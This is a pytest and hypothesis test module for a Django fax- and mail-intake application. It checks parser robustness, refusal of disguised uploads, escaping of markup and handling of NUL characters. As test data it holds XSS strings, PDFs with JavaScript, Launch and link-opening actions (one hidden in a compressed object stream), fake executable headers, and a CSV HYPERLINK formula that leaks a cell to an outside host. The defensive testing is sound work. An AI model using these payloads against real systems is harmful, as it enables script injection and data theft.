"""Hostile input: arbitrary text and bytes, files that lie about what they are, and markup.

- Property tests (hypothesis): phone-number parsing, the counting rule and the mail parser fail
  only in the ways they document, whatever they are given.
- Uploads that lie about their type, sent by the fax gateway (API) and by a clerk (intake page):
  each is refused with a message that says what is wrong, and nothing is written, neither a row
  nor a file.
- Markup typed into any text field is shown as text on every page that shows it: the inbox, the
  intake page's recent log, the Django admin (and the CSV exports, where they exist).
(The API as a whole is fuzzed from its schema in test_schemathesis.py.)
"""

import csv
import io
import re
import shutil
import struct
import zlib
from pathlib import Path

import phonenumbers
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from hypothesis import HealthCheck, assume, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from detainers.counting.rule import COUNTED, is_counted
from detainers.intake.routing import delivery_route
from detainers.intake.services import IncomingFile, delivery_receive
from detainers.intake.staging import STAGING_FOLDER
from detainers.mailbox.parsing import UnreadableMessage, message_headers, message_parse
from detainers.models import Channel, Delivery, DetainerRequest, Disposition, Document, Source
from detainers.triage.services import request_triage
from precincts.models import FaxNumber
from precincts.phone import fax_number_normalise
from tests import mail_corpus
from tests.factories import (
    fax_received,
    fax_report,
    foreign_scripts,
    image_bytes,
    intake_form,
    pdf_bytes,
)

PROPERTY = hypothesis_settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


# --- Phone numbers ------------------------------------------------------------------------------


phone_like = st.one_of(
    st.text(max_size=60),
    st.from_regex(r"[+(]?[0-9 ().+\-]{0,30}", fullmatch=True),
    st.text(alphabet="0123456789+()-. \t\u00a0\uff10\uff11\u0660x#*ext", max_size=45),
)


@PROPERTY
@given(text=phone_like)
def test_fax_number_normalise_refuses_only_with_a_validation_error(text):
    try:
        e164 = fax_number_normalise(text)
    except ValidationError as refusal:
        assert refusal.messages and all(refusal.messages)
        return
    assert re.fullmatch(r"\+[1-9][0-9]{6,14}", e164)
    assert fax_number_normalise(e164) == e164  # the result reads back as itself


AREA_CODES = ["201", "212", "213", "312", "415", "508", "617", "646", "718", "781", "802", "857"]
US_FORMATS = [
    "({area}) {exchange}-{line}",
    "{area}.{exchange}.{line}",
    "{area}-{exchange}-{line}",
    "{area}{exchange}{line}",
    "+1 {area} {exchange} {line}",
    "+1{area}{exchange}{line}",
    "1-{area}-{exchange}-{line}",
    "1 ({area}) {exchange}-{line}",
    "  +1 ({area}) {exchange} {line}  ",
]


@PROPERTY
@given(
    area=st.sampled_from(AREA_CODES),
    exchange=st.integers(200, 999).map(str),
    line=st.integers(0, 9999).map("{:04d}".format),
)
def test_a_us_number_written_any_common_way_reads_as_one_e164_number(area, exchange, line):
    assume(phonenumbers.is_valid_number(phonenumbers.parse(f"+1{area}{exchange}{line}")))
    readings = {
        fax_number_normalise(form.format(area=area, exchange=exchange, line=line))
        for form in US_FORMATS
    }
    assert readings == {f"+1{area}{exchange}{line}"}


# --- The counting rule --------------------------------------------------------------------------

dispositions = st.sampled_from(["", *Disposition.values])


@pytest.mark.django_db
@PROPERTY
@given(requests=st.lists(st.tuples(dispositions, st.booleans()), min_size=1, max_size=8))
def test_is_counted_agrees_with_the_counted_query(b3, requests):
    delivery = fax_received()
    first = delivery.requests.get()
    made = [
        DetainerRequest.objects.create(
            delivery=delivery,
            sequence=place,
            disposition=disposition,
            duplicate_of=first if duplicate else None,
        )
        for place, (disposition, duplicate) in enumerate(requests, start=2)
    ]
    ids = [request.pk for request in made]
    by_python = {request.pk for request in made if is_counted(request)}
    by_query = set(
        DetainerRequest.objects.filter(pk__in=ids).filter(COUNTED).values_list("pk", flat=True)
    )
    assert by_python == by_query


# --- The mail parser ----------------------------------------------------------------------------

_CORPUS: list[bytes] = []


def corpus() -> list[bytes]:
    """Real-looking messages (tests/mail_corpus.py), built once: hypothesis mutates them."""
    if not _CORPUS:
        _CORPUS.extend(mail_corpus.hard_cases().values())
    return _CORPUS


def _parses_or_says_why(raw: bytes) -> None:
    headers = message_headers(raw)  # documented never to raise
    try:
        parsed = message_parse(raw, headers)
    except UnreadableMessage as unreadable:
        assert unreadable.reason
        return
    assert parsed.headers == headers
    for file in parsed.files:
        assert isinstance(file.content, bytes) and file.name


@PROPERTY
@given(raw=st.binary(max_size=4000))
def test_the_mail_parser_reads_any_bytes_or_says_why_not(raw):
    _parses_or_says_why(raw)


mutation = st.tuples(
    st.sampled_from(["flip", "delete", "insert", "truncate", "repeat"]),
    st.floats(0, 1),
    st.floats(0, 1),
    st.binary(min_size=1, max_size=40),
)


def mutated(raw: bytes, mutations) -> bytes:
    data = bytearray(raw)
    for kind, where, how_much, inserted in mutations:
        at = int(where * len(data))
        size = int(how_much * 200) + 1
        if kind == "flip" and data:
            data[min(at, len(data) - 1)] ^= 0xFF
        elif kind == "delete":
            del data[at : at + size]
        elif kind == "insert":
            data[at:at] = inserted
        elif kind == "truncate":
            del data[at:]
        else:
            data[at:at] = data[at : at + size] * 3
    return bytes(data)


@PROPERTY
@given(index=st.integers(0, 10_000), mutations=st.lists(mutation, min_size=1, max_size=6))
def test_the_mail_parser_reads_damaged_real_messages_or_says_why_not(index, mutations):
    messages = corpus()
    _parses_or_says_why(mutated(messages[index % len(messages)], mutations))


# --- Uploads that lie about their type ---------------------------------------------------------


def pdf_with_open_action(action: dict) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        DictionaryObject(
            {
                NameObject(key): NameObject(value)
                if value.startswith("/")
                else TextStringObject(value)
                for key, value in action.items()
            }
        )
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00" + b"\x00" * 60)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """A PDF 1.5 whose /OpenAction (object 4) is only inside a Flate-compressed object stream,
    found through a cross-reference stream: no byte search of the file can see it."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def write(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    write(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    write(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    write(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>")
    header = b"4 0 "
    packed = zlib.compress(header + hidden)
    write(
        5,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(packed), packed),
    )
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in (1, 2, 3)]
    rows += [struct.pack(">BIH", 2, 5, 0), struct.pack(">BIH", 1, offsets[5], 0)]
    rows += [struct.pack(">BIH", 1, xref_at, 0)]
    table = b"".join(rows)
    out.extend(
        b"6 0 obj\n<< /Type /XRef /Size 7 /Root 1 0 R /W [1 4 2] /Index [0 7] /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, xref_at)
    )
    return bytes(out)


def _half(content: bytes) -> bytes:
    return content[: len(content) // 2]


JAVASCRIPT = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
WRONG_TYPE = "whatever its name says"
ACTIVE = "is a PDF with active content (JavaScript, an action that opens a link, sends a form"
CUT_SHORT = "cannot be read to the end"
LIARS = {
    "html-named-pdf": (
        "fax.pdf",
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        WRONG_TYPE,
    ),
    "windows-exe-named-pdf": ("fax.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, WRONG_TYPE),
    "elf-named-pdf": ("fax.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, WRONG_TYPE),
    "pdf-javascript-open-action": ("fax.pdf", pdf_with_open_action(JAVASCRIPT), ACTIVE),
    "pdf-launch-action": (
        "fax.pdf",
        pdf_with_open_action({"/S": "/Launch", "/F": "calc.exe"}),
        ACTIVE,
    ),
    "pdf-embedded-file": ("fax.pdf", pdf_with_attachment(), ACTIVE),
    # Actions that reach outside the document (issue 13: these were accepted and served inline).
    "pdf-uri-open-action": (
        "fax.pdf",
        pdf_with_open_action({"/S": "/URI", "/URI": "https://example.invalid/x"}),
        ACTIVE,
    ),
    "pdf-submit-form-action": (
        "fax.pdf",
        pdf_with_open_action({"/S": "/SubmitForm", "/F": "https://example.invalid/collect"}),
        ACTIVE,
    ),
    "pdf-remote-goto-action": (
        "fax.pdf",
        pdf_with_open_action({"/S": "/GoToR", "/F": "\\\\host\\share\\x.pdf"}),
        ACTIVE,
    ),
    "pdf-import-data-action": (
        "fax.pdf",
        pdf_with_open_action({"/S": "/ImportData", "/F": "data.fdf"}),
        ACTIVE,
    ),
    "pdf-uri-in-object-stream": (
        "fax.pdf",
        pdf_with_object_stream(b"<< /S /URI /URI (https://example.invalid/x) >>"),
        ACTIVE,
    ),
    "pdf-javascript-name-escaped": (
        "fax.pdf",
        pdf_bytes().replace(
            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /JS (x) >>"
        ),
        ACTIVE,
    ),
    "pdf-javascript-in-object-stream": (
        "fax.pdf",
        pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        ACTIVE,
    ),
    "truncated-pdf": ("fax.pdf", _half(pdf_bytes(pages=3)), "stops before the end-of-file marker"),
    "pdf-without-eof": (
        "fax.pdf",
        pdf_bytes().rstrip().removesuffix(b"%%EOF"),
        "end-of-file marker",
    ),
    "pdf-damaged": ("fax.pdf", b"%PDF-1.4\n" + b"\x00garbage\n" * 40 + b"%%EOF\n", "damaged PDF"),
    "truncated-tiff": ("fax.tif", _half(image_bytes("TIFF", pages=3)), CUT_SHORT),
    "empty": ("fax.pdf", b"", "is empty"),
}


def nothing_written() -> None:
    assert not Delivery.objects.exists()
    assert not Document.objects.exists()
    assert not DetainerRequest.objects.exists()
    media = Path(settings.MEDIA_ROOT)
    assert not [path for path in media.rglob("*") if path.is_file()] if media.exists() else True


@pytest.mark.django_db
@pytest.mark.parametrize("case", LIARS)
def test_the_fax_api_refuses_a_file_that_lies_and_writes_nothing(api_as, b3, case):
    name, content, says = LIARS[case]
    response = api_as("gateway").post("/api/v1/faxes/", fax_report(name, content))

    assert response.status_code == 400, response.content
    assert list(response.json()) == ["document"]
    assert says in response.json()["document"][0]
    nothing_written()


@pytest.mark.django_db
@pytest.mark.parametrize("case", LIARS)
def test_the_intake_page_refuses_a_file_that_lies_and_writes_nothing(page_as, b3, case):
    name, content, says = LIARS[case]
    response = page_as("clerk").post("/intake/", intake_form(b3, name, content))

    assert response.status_code == 200
    errors = " ".join(response.context["form"].errors.get("scan", []))
    assert says in errors, response.context["form"].errors
    assert escape(says) in response.content.decode()
    nothing_written()


@pytest.mark.django_db
def test_an_oversized_file_is_refused_by_the_api_and_the_page(api_as, page_as, b3, settings):
    settings.MAX_DOCUMENT_BYTES = 2000
    content = pdf_bytes() + b"\n%" + b"x" * 3000  # a real PDF, padded past the limit

    api = api_as("gateway").post("/api/v1/faxes/", fax_report("fax.pdf", content))
    page = page_as("clerk").post("/intake/", intake_form(b3, "fax.pdf", content))

    assert api.status_code == 400
    assert "the limit is" in api.json()["document"][0]
    assert "the limit is" in " ".join(page.context["form"].errors["scan"])
    nothing_written()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("fax.pdf", pdf_bytes(pages=2)),
        ("fax.tif", image_bytes("TIFF", pages=3)),
        # A harmless action (go to page 1) is not active content.
        ("fax.pdf", pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
    ],
    ids=["pdf", "tiff", "pdf-with-object-stream"],
)
def test_honest_files_are_still_accepted(api_as, b3, name, content):
    response = api_as("gateway").post("/api/v1/faxes/", fax_report(name, content))

    assert response.status_code == 201, response.json()
    assert response.json()["document"]["pages"] >= 1


# --- A machine's clock that is far off (found by test_schemathesis.py) ---------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("moment", ["0049-06-13T03:25:14-18:13", "1970-01-01T00:00:00+00:00"])
def test_a_gateway_clock_reset_to_the_distant_past_records_now_and_keeps_its_time(
    api_as, b3, moment
):
    # Before: a fax "received" in the year 49 was stored so, counted in year 49 (where no report
    # looks) and answered with an offset of -04:56:02, which the API schema does not allow.
    before = timezone.now()
    response = api_as("gateway").post(
        "/api/v1/faxes/", {**fax_report("fax.pdf", pdf_bytes()), "received_at": moment}
    )

    assert response.status_code == 201, response.json()
    delivery = Delivery.objects.get()
    assert delivery.received_at >= before
    assert "Sender's clock said" in delivery.notes
    assert re.fullmatch(r".*[+-]\d\d:\d\d", response.json()["received_at"])


@pytest.mark.django_db
def test_a_clerk_cannot_log_a_fax_from_before_2000(page_as, b3):
    form = intake_form(b3, "fax.pdf", pdf_bytes())
    form.update(received_at="0049-06-13T09:30", late_reason="Found in a drawer")
    response = page_as("clerk").post("/intake/", form)

    assert "before 2000" in " ".join(response.context["form"].errors["received_at"])
    # The good scan waits for the corrected form (detainers.intake.staging), not as a document.
    assert response.context["form"].kept.name == "fax.pdf"
    shutil.rmtree(Path(settings.MEDIA_ROOT) / STAGING_FOLDER)
    nothing_written()


# --- Markup is shown as text everywhere -------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'


def assert_shown_as_text(page: str, value: str) -> None:
    assert value not in page
    assert escape(value) in page


@pytest.fixture
def marked_up_item(b3, supervisor):
    """An item whose every free-text field, from the sender and from the reviewer, holds markup."""
    delivery = delivery_receive(
        channel=Channel.FAX,
        source=Source.GATEWAY,
        received_at=timezone.now(),
        files=[IncomingFile(f"{SCRIPT}.pdf", pdf_bytes())],
        to_number="+16175550133",
        from_address=ATTRIBUTE,
        notes=SCRIPT,
    ).delivery
    delivery_route(delivery_id=delivery.pk)
    item = delivery.requests.get()
    request_triage(
        request_id=item.pk,
        actor=supervisor,
        changes={
            "subject_name": SCRIPT,
            "citizenship": ATTRIBUTE,
            "legal_review": True,
            "legal_review_note": ATTRIBUTE,
        },
    )
    return item


@pytest.mark.django_db
def test_markup_is_text_in_the_inbox_list_and_item(page_as, marked_up_item):
    client = page_as("supervisor")
    listing = client.get(reverse("inbox")).content.decode()
    item = client.get(reverse("inbox-item", args=[marked_up_item.pk])).content.decode()

    assert_shown_as_text(listing, SCRIPT)  # the subject's name
    for value in (SCRIPT, ATTRIBUTE):
        assert_shown_as_text(item, value)  # name, notes, sender, citizenship, legal note
    assert foreign_scripts(listing + item) == []


@pytest.mark.django_db
def test_markup_is_text_in_the_intake_pages_recent_log(page_as, b3):
    b3.name = SCRIPT
    b3.save(update_fields=["name"])
    # A fax with the precinct known but the dialled number unreadable: the log shows it as sent.
    delivery_receive(
        channel=Channel.FAX,
        source=Source.GATEWAY,
        received_at=timezone.now(),
        files=[IncomingFile("fax.pdf", pdf_bytes())],
        precinct=b3,
        to_number=ATTRIBUTE,
    )
    page = page_as("clerk").get("/intake/").content.decode()

    assert_shown_as_text(page, SCRIPT)
    assert_shown_as_text(page, ATTRIBUTE)


@pytest.mark.django_db
def test_markup_is_text_in_the_admin(page_as, b3, clerk):
    b3.name = SCRIPT
    b3.save(update_fields=["name"])
    FaxNumber.objects.filter(precinct=b3).update(note=ATTRIBUTE)
    clerk.first_name, clerk.last_name = SCRIPT, ATTRIBUTE
    clerk.save(update_fields=["first_name", "last_name"])
    fax_number = FaxNumber.objects.get(precinct=b3)
    client = page_as("admin")

    pages = {
        url: client.get(url)
        for url in (
            reverse("admin:precincts_precinct_changelist"),
            reverse("admin:precincts_precinct_change", args=[b3.pk]),
            reverse("admin:precincts_faxnumber_changelist"),
            reverse("admin:precincts_faxnumber_change", args=[fax_number.pk]),
            reverse("admin:accounts_user_changelist"),
            reverse("admin:accounts_user_change", args=[clerk.pk]),
        )
    }
    for url, response in pages.items():
        assert response.status_code == 200, url
        page = response.content.decode()
        assert SCRIPT not in page and ATTRIBUTE not in page, url
    shown = "".join(response.content.decode() for response in pages.values())
    assert escape(SCRIPT) in shown and escape(ATTRIBUTE) in shown


FORMULAS = ['=HYPERLINK("http://example.com/?leak="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def formula_guards() -> list:
    """The functions the CSV exports run every cell through, where those exports exist yet."""
    guards = []
    for module_name, name in (
        ("detainers.counting.exports", "cell_safe"),
        ("detainers.reconcile.selectors", "csv_safe"),
    ):
        try:
            module = __import__(module_name, fromlist=[name])
        except ImportError:
            continue
        if callable(getattr(module, name, None)):
            guards.append(getattr(module, name))
    return guards


@pytest.mark.parametrize("guard", formula_guards(), ids=lambda guard: guard.__module__)
@pytest.mark.parametrize("value", FORMULAS)
def test_no_csv_cell_can_start_a_formula(guard, value):
    cell = str(guard(value))
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.endswith(value)  # shown as typed, only made inert


def test_the_yearly_requests_csv_writes_a_formula_as_text():
    exports = pytest.importorskip("detainers.counting.exports")
    response = exports.requests_csv(2024, [(FORMULAS[0], "2024-03-15", "I-247A", "")])
    rows = list(csv.reader(io.StringIO(response.content.decode())))

    assert rows[1][0] == "'" + FORMULAS[0]


# --- NUL characters never reach the database (PostgreSQL refuses them with a 500) --------------

NUL = "B-3\x00"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("who", "method", "url", "data"),
    [
        (
            "admin",
            "post",
            "/api/v1/fax-numbers/",
            {"precinct": NUL, "number": "+16175550177", "active_from": "2024-01-01"},
        ),
        ("supervisor", "get", "/api/v1/fax-numbers/resolve/", {"number": "617\x00555 0133"}),
        ("supervisor", "get", "/api/v1/requests/", {"precinct": NUL}),
        ("supervisor", "patch", "/api/v1/requests/{id}/", {"subject_name": "Zelda\x00"}),
        ("gateway", "post", "/api/v1/faxes/", {"gateway_id": "gw\x00", "from_number": "\x00"}),
    ],
    ids=["fax-number-precinct", "resolve-number", "request-filter", "triage-field", "fax-fields"],
)
def test_a_nul_character_in_api_input_is_refused_not_a_500(api_as, b3, who, method, url, data):
    item = fax_received().requests.get()
    if url == "/api/v1/faxes/":
        data = {**fax_report("fax.pdf", pdf_bytes()), **data}
    client = api_as(who)
    kwargs = {"format": "json"} if method == "patch" else {}
    response = getattr(client, method)(url.format(id=item.pk), data, **kwargs)

    assert response.status_code == 400, response.content


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("who", "url"),
    [
        ("supervisor", "/inbox/?precinct=%00&channel=%00&status=%00"),
        ("admin", "/admin/precincts/precinct/?q=%00"),
        ("admin", "/admin/precincts/faxnumber/?q=617%00"),
        ("admin", "/admin/accounts/user/?q=%00"),
    ],
)
def test_a_nul_character_in_a_page_query_is_not_a_500(page_as, b3, who, url):
    response = page_as(who).get(url)

    # Not a 500, nor a redirect or refusal that never reached the query: the list itself.
    assert response.status_code == 200
    page = "admin/change_list.html" if url.startswith("/admin/") else "detainers/inbox.html"
    assert page in [template.name for template in response.templates]


@pytest.mark.django_db
def test_a_nul_character_in_an_uploaded_file_name_is_not_a_500(api_as, page_as, b3):
    api = api_as("gateway").post("/api/v1/faxes/", fax_report("fax\x00.pdf", pdf_bytes()))
    # Another scan (two pages): the same content again would be asked about first (same scan).
    page = page_as("clerk").post("/intake/", intake_form(b3, "scan\x00.pdf", pdf_bytes(2)))

    # Django's multipart parser drops non-printable characters from an upload's name, so both
    # files arrive named as if the NUL had never been typed, and both are kept.
    assert api.status_code == 201, api.content
    assert page.status_code == 302, page.context and page.context["form"].errors
    assert page["Location"].startswith("/intake/?receipt=")
    documents = list(Document.objects.order_by("name"))
    assert [document.name for document in documents] == ["fax.pdf", "scan.pdf"]
    for document in documents:
        assert "\x00" not in document.name
        assert "\x00" not in document.file.name


def test_a_notice_header_with_bytes_that_are_not_utf8_is_not_ours_and_does_not_crash():
    # Found by the mutation test above: message_headers, "never raises", raised UnicodeEncodeError
    # checking the signature, so one such message would stop every run of the mailbox reader.
    raw = b"From: ero@ice.dhs.gov\r\nX-Detainer-Desk: notice DD-20\xcd6-000001:x\r\n\r\nHello\r\n"

    assert message_headers(raw).own_notice is False
    message_parse(raw)
